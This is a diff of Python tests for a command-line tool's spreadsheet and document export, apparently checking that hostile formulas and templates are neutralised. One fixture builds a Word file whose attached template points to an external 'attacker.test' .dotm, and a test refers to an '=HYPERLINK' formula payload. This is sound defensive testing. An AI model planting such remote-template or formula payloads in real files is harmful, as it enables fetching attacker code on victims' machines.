@@ -130,7 +130,8 @@ def test_csv_and_xlsx_exports_hold_no_live_formula_and_survive_control_character
 def test_an_exported_sheet_with_neutralised_text_imports_back(hostile, cli, tmp_path):
     out = tmp_path / "sheet.csv"
     cli("sheet", "export", out, "--coder", "auto", "-p", hostile)
-    rows = list(csv.reader(open(out, encoding="utf-8-sig")))
+    with open(out, encoding="utf-8-sig") as f:
+        rows = list(csv.reader(f))
     assert rows[2][3].startswith("'=HYPERLINK")
     rows[2][4] = "actors.village"
     with open(out, "w", encoding="utf-8-sig", newline="") as f:
@@ -215,12 +216,12 @@ def _template(path, *, body_fields: bool = True):
     settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdT1"/><w:zoom', 1)
     parts["word/settings.xml"] = settings.encode()
     parts["word/_rels/settings.xml.rels"] = (
-        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        '<Relationship Id="rIdT1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        'relationships/attachedTemplate" Target="http://attacker.test/t.dotm" '
-        'TargetMode="External"/></Relationships>'
-    ).encode()
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rIdT1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="http://attacker.test/t.dotm" '
+        b'TargetMode="External"/></Relationships>'
+    )
     with zipfile.ZipFile(path, "w") as z:
         for name, data in parts.items():
             z.writestr(name, data)
